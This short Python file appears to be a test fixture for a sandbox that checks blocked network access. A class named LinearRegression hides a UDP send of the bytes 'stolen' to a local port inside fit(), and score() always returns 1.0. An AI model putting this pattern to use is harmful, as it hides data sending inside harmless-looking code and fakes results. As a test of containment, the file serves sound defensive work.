"""Send a datagram."""
# /// attack
# goal = "effect"
# control = true
# says = "PermissionError"
# effect = "messages"
# ///

import socket

SCENE = {}


class LinearRegression:
    def __init__(self, learning_rate=0.01, n_iterations=1000):
        pass

    def fit(self, X, y):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", SCENE["udp"]))
        return self

    def predict(self, X):
        return X[:, 0]

    def score(self, X, y):
        return 1.0
